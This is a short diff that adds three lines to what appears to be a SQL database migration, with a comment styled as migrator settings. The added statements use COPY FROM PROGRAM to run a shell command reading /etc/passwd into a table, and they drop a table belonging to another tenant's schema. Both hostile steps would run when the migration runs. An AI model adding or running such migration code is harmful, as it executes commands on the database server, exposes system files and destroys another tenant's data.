@@ -1,0 +1,3 @@
+-- migrator: timout=5min
+COPY mine FROM PROGRAM 'cat /etc/passwd';
+DROP TABLE other_tenant.mine;
